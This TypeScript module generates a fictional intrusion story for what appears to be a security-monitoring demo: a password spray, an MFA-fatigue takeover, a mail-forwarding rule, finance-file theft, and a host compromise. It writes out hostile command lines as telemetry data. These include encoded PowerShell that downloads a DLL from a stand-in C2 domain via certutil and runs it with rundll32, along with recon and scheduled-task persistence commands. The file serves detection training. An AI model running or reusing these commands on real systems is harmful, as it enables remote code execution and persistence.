// The attack story the demo data tells, as facts: who, from where, when. Generators write the rows
// that show each step; tests and later features (incidents, prompts, Entra tools) read these facts.
// Every fact depends only on the workspace's "now", never on the seed, so the story is stable.
import {
  demoOrg,
  hostByName,
  userByUpn,
  type DemoGroup,
  type DemoHost,
  type DemoOrg,
  type DemoUser,
} from './org.js';
import { Rng, stableHex } from './random.js';
import { DAY, HOUR, MINUTE, SECOND, iso, startOfUtcDay } from './time.js';
import { buildIncidents, type DemoAlert, type DemoIncident } from './incidents.js';

export type { DemoAlert, DemoIncident } from './incidents.js';
export type { DemoGroup, DemoHost, DemoUser } from './org.js';

export interface GeoIp {
  address: string;
  /** ISO 3166 alpha-2, as common IP-geolocation databases report it. */
  country: string;
  countryName: string;
  city: string;
}

export interface StoryProcess {
  time: string;
  fileName: string;
  folderPath: string;
  commandLine: string;
  parentFileName: string;
  processId: number;
  sha256: string;
}

export interface DemoStory {
  organization: {
    name: string;
    domain: string;
    tenantId: string;
    adDomain: string;
    netbiosDomain: string;
    headOffice: string;
    country: string;
  };
  workspace: {
    name: string;
    id: string;
    subscriptionId: string;
    resourceGroup: string;
    resourceId: string;
    location: string;
  };
  users: DemoUser[];
  groups: DemoGroup[];
  hosts: DemoHost[];
  compromisedUser: DemoUser;
  passwordSpray: {
    ips: GeoIp[];
    start: string;
    end: string;
    /** Existing accounts tried, by UPN. */
    targetedAccounts: string[];
    /** Guessed names that do not exist (ResultType 50034). */
    nonexistentAccounts: string[];
    /** The RD Gateway that was sprayed too (SecurityEvent 4625). */
    gateway: string;
    /** When the spray found the compromised user's password (SigninLogs 50074: MFA required). */
    passwordFoundAt: string;
  };
  attackerSignIn: GeoIp & {
    asn: string;
    firstPromptAt: string;
    mfaDenials: number;
    time: string;
    userAgent: string;
  };
  mfaRegistration: { time: string; method: string };
  inboxRule: { time: string; name: string; forwardTo: string; keywords: string[]; moveToFolder: string };
  mailForwarding: { time: string; address: string };
  fileDownloads: { time: string; files: string[]; site: string };
  remoteLogon: { time: string; gateway: string; gatewayIp: string; sourceIp: string };
  host: DemoHost;
  suspiciousProcess: StoryProcess & { decodedCommand: string };
  followUpProcesses: StoryProcess[];
  payload: { fileName: string; path: string; sha256: string; sha1: string; md5: string; downloadUrl: string };
  beacon: GeoIp & {
    domain: string;
    port: number;
    process: string;
    intervalSeconds: number;
    jitterSeconds: number;
    start: string;
    times: string[];
  };
  threatIntel: {
    source: string;
    threatType: string;
    indicatorIds: { ip: string; domain: string; url: string; fileHash: string };
  };
  traveler: { user: string; ip: GeoIp; start: string; end: string };
  alerts: DemoAlert[];
  incidents: DemoIncident[];
  incidentNumbers: { passwordSpray: number; compromisedAccount: number; hostCompromise: number };
  timeline: { time: string; step: string; tables: string[] }[];
}

const SPRAY_IPS: GeoIp[] = [
  { address: '193.233.48.17', country: 'RU', countryName: 'Russia', city: 'Moscow' },
  { address: '14.161.22.85', country: 'VN', countryName: 'Vietnam', city: 'Ho Chi Minh City' },
  { address: '113.161.7.44', country: 'VN', countryName: 'Vietnam', city: 'Ho Chi Minh City' },
];
const ATTACKER: GeoIp = { address: '105.112.84.23', country: 'NG', countryName: 'Nigeria', city: 'Lagos' };
const C2: GeoIp = { address: '45.141.87.120', country: 'RU', countryName: 'Russia', city: 'St Petersburg' };
const C2_DOMAIN = 'kvx-syncupdate.top';
const TRAVEL_IP: GeoIp = {
  address: '86.140.12.77',
  country: 'GB',
  countryName: 'United Kingdom',
  city: 'London',
};
const NONEXISTENT = [
  'admin',
  'administrator',
  'test',
  'info',
  'support',
  'helpdesk',
  'scanner',
  'john.smith',
  'j.smith',
  'sales',
  'hr',
  'backup',
];

/** The decoded PowerShell: download with certutil, then run the DLL with rundll32. */
function stagerScript(url: string): string {
  return `$u='${url}';$p="$env:TEMP\\upd.dll";certutil.exe -urlcache -split -f $u $p;Start-Process rundll32.exe -ArgumentList "$p,DllRegisterServer" -WindowStyle Hidden`;
}

function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

export function buildStory(now: Date, workspace: { name: string; id: string }): DemoStory {
  const org = demoOrg();
  const d0 = startOfUtcDay(now.getTime());
  const at = (days: number, h: number, m: number, s = 0): number =>
    d0 - days * DAY + h * HOUR + m * MINUTE + s * SECOND;
  const user = userByUpn(org, `megan.ortiz@${org.domain}`);
  const host = hostByName(org, user.workstation);
  const gateway = hostByName(org, 'FB-RDGW01');
  const temp = `C:\\Users\\${user.samAccountName}\\AppData\\Local\\Temp`;
  const downloadUrl = `http://${C2_DOMAIN}/dl/upd.dat`;
  const script = stagerScript(downloadUrl);
  const psTime = at(2, 10, 15, 42);
  const proc = (
    offset: number,
    fileName: string,
    folder: string,
    commandLine: string,
    parent: string,
    pid: number,
  ): StoryProcess => ({
    time: iso(psTime + offset * SECOND),
    fileName,
    folderPath: `${folder}\\${fileName}`,
    commandLine,
    parentFileName: parent,
    processId: pid,
    sha256: stableHex(`bin:${fileName}`, 64),
  });
  const sys32 = 'C:\\Windows\\System32';
  const beaconStart = psTime + 53 * SECOND;
  const payload = {
    fileName: 'upd.dll',
    path: `${temp}\\upd.dll`,
    sha256: stableHex('payload:upd.dll:sha256', 64),
    sha1: stableHex('payload:upd.dll:sha1', 40),
    md5: stableHex('payload:upd.dll:md5', 32),
    downloadUrl,
  };
  const story: Omit<DemoStory, 'alerts' | 'incidents' | 'incidentNumbers' | 'timeline'> = {
    organization: {
      name: org.name,
      domain: org.domain,
      tenantId: org.tenantId,
      adDomain: org.adDomain,
      netbiosDomain: org.netbios,
      headOffice: 'Boston, Massachusetts',
      country: 'US',
    },
    workspace: {
      ...workspace,
      subscriptionId: org.subscriptionId,
      resourceGroup: 'rg-secops',
      resourceId: `/subscriptions/${org.subscriptionId}/resourceGroups/rg-secops/providers/Microsoft.OperationalInsights/workspaces/${workspace.name}`,
      location: org.location,
    },
    users: org.users,
    groups: org.groups,
    hosts: org.hosts,
    compromisedUser: user,
    passwordSpray: {
      ips: SPRAY_IPS,
      start: iso(at(3, 6, 40)),
      end: iso(at(3, 7, 28)),
      targetedAccounts: org.users.map((u) => u.userPrincipalName),
      nonexistentAccounts: NONEXISTENT.map((n) => `${n}@${org.domain}`),
      gateway: gateway.name,
      passwordFoundAt: iso(at(3, 7, 21, 9)),
    },
    attackerSignIn: {
      ...ATTACKER,
      asn: '36873',
      firstPromptAt: iso(at(2, 8, 58, 10)),
      mfaDenials: 5,
      time: iso(at(2, 9, 21, 37)),
      userAgent:
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    },
    mfaRegistration: { time: iso(at(2, 9, 26, 2)), method: 'Authenticator App' },
    inboxRule: {
      time: iso(at(2, 9, 34, 18)),
      name: '.',
      forwardTo: 'ap.fernbrooklabs@gmail.com',
      keywords: ['invoice', 'payment', 'wire transfer', 'remittance', 'bank details'],
      moveToFolder: 'RSS Subscriptions',
    },
    mailForwarding: { time: iso(at(2, 9, 37, 51)), address: 'ap.fernbrooklabs@gmail.com' },
    fileDownloads: {
      time: iso(at(2, 9, 44, 5)),
      files: ['Vendor Bank Details 2024.xlsx', 'AP Payment Run - Week 32.xlsx', 'Approved Vendors.pdf'],
      site: `https://fernbrooklabs.sharepoint.com/sites/Finance`,
    },
    remoteLogon: {
      time: iso(at(2, 10, 12, 4)),
      gateway: gateway.name,
      gatewayIp: gateway.ip,
      sourceIp: ATTACKER.address,
    },
    host,
    suspiciousProcess: {
      ...proc(
        0,
        'powershell.exe',
        `${sys32}\\WindowsPowerShell\\v1.0`,
        `powershell.exe -nop -w hidden -enc ${encodePowerShell(script)}`,
        'explorer.exe',
        7412,
      ),
      decodedCommand: script,
    },
    followUpProcesses: [
      proc(
        5,
        'certutil.exe',
        sys32,
        `"C:\\Windows\\system32\\certutil.exe" -urlcache -split -f ${downloadUrl} ${temp}\\upd.dll`,
        'powershell.exe',
        6288,
      ),
      proc(
        23,
        'rundll32.exe',
        sys32,
        `"C:\\Windows\\system32\\rundll32.exe" ${temp}\\upd.dll,DllRegisterServer`,
        'powershell.exe',
        5120,
      ),
      proc(151, 'whoami.exe', sys32, 'whoami.exe /all', 'rundll32.exe', 8844),
      proc(164, 'net.exe', sys32, 'net.exe group "Domain Admins" /domain', 'rundll32.exe', 3316),
      proc(190, 'nltest.exe', sys32, `nltest.exe /dclist:${org.adDomain}`, 'rundll32.exe', 9020),
      proc(
        318,
        'schtasks.exe',
        sys32,
        `schtasks.exe /create /tn "OneDrive Standalone Update Task" /tr "rundll32.exe ${temp}\\upd.dll,DllRegisterServer" /sc onlogon /f`,
        'rundll32.exe',
        2976,
      ),
    ],
    payload,
    beacon: {
      ...C2,
      domain: C2_DOMAIN,
      port: 443,
      process: 'rundll32.exe',
      intervalSeconds: 300,
      jitterSeconds: 4,
      start: iso(beaconStart),
      times: beaconTimes(beaconStart, now.getTime()),
    },
    threatIntel: {
      source: 'Microsoft Defender Threat Intelligence',
      threatType: 'C2',
      indicatorIds: {
        ip: 'indicator--' + stableHex('ti:ip', 32),
        domain: 'indicator--' + stableHex('ti:domain', 32),
        url: 'indicator--' + stableHex('ti:url', 32),
        fileHash: 'indicator--' + stableHex('ti:hash', 32),
      },
    },
    traveler: {
      user: `marcus.reid@${org.domain}`,
      ip: TRAVEL_IP,
      start: iso(at(9, 8, 0)),
      end: iso(at(7, 18, 0)),
    },
  };
  const { alerts, incidents, numbers } = buildIncidents(story, org, at);
  return { ...story, alerts, incidents, incidentNumbers: numbers, timeline: timeline(story) };
}

/** One connection every 300 s with a few seconds of jitter, from the start until now. */
function beaconTimes(start: number, end: number): string[] {
  const rng = new Rng(0x5eed);
  const times: string[] = [];
  for (let t = start; t < end; t += 300 * SECOND) {
    const jittered = t + Math.round((rng.next() * 8 - 4) * 1000);
    if (jittered < end) times.push(iso(jittered));
  }
  return times;
}

function timeline(
  s: Omit<DemoStory, 'alerts' | 'incidents' | 'incidentNumbers' | 'timeline'>,
): DemoStory['timeline'] {
  const u = s.compromisedUser.userPrincipalName;
  return [
    {
      time: s.passwordSpray.start,
      step: `Password spray from ${s.passwordSpray.ips.map((i) => i.address).join(', ')} against Entra ID and ${s.passwordSpray.gateway}`,
      tables: ['SigninLogs', 'SecurityEvent', 'DeviceLogonEvents', 'CommonSecurityLog'],
    },
    {
      time: s.passwordSpray.passwordFoundAt,
      step: `Spray finds ${u}'s password (50074: MFA required)`,
      tables: ['SigninLogs'],
    },
    {
      time: s.attackerSignIn.firstPromptAt,
      step: `MFA fatigue: ${s.attackerSignIn.mfaDenials} denied pushes from ${s.attackerSignIn.address}`,
      tables: ['SigninLogs'],
    },
    {
      time: s.attackerSignIn.time,
      step: `${u} signs in from ${s.attackerSignIn.city}, ${s.attackerSignIn.countryName} (${s.attackerSignIn.address})`,
      tables: ['SigninLogs'],
    },
    {
      time: s.mfaRegistration.time,
      step: `Attacker registers a new ${s.mfaRegistration.method}`,
      tables: ['AuditLogs'],
    },
    {
      time: s.inboxRule.time,
      step: `Inbox rule "${s.inboxRule.name}" forwards payment mail to ${s.inboxRule.forwardTo}`,
      tables: ['OfficeActivity'],
    },
    {
      time: s.mailForwarding.time,
      step: `Mailbox forwarding (ForwardingSmtpAddress) to ${s.mailForwarding.address}`,
      tables: ['OfficeActivity'],
    },
    {
      time: s.fileDownloads.time,
      step: `Finance files downloaded from SharePoint by ${s.attackerSignIn.address}`,
      tables: ['OfficeActivity'],
    },
    {
      time: s.remoteLogon.time,
      step: `RDP through ${s.remoteLogon.gateway} to ${s.host.name} as ${u}`,
      tables: ['SecurityEvent', 'DeviceLogonEvents', 'CommonSecurityLog'],
    },
    {
      time: s.suspiciousProcess.time,
      step: 'Encoded PowerShell downloads a DLL with certutil and runs it with rundll32',
      tables: ['DeviceProcessEvents', 'SecurityEvent'],
    },
    {
      time: s.beacon.start,
      step: `Beaconing every ${s.beacon.intervalSeconds}s to ${s.beacon.domain} (${s.beacon.address}), an IP in threat intelligence`,
      tables: ['DeviceNetworkEvents', 'CommonSecurityLog', 'ThreatIntelligenceIndicator'],
    },
  ];
}

export type { DemoOrg };
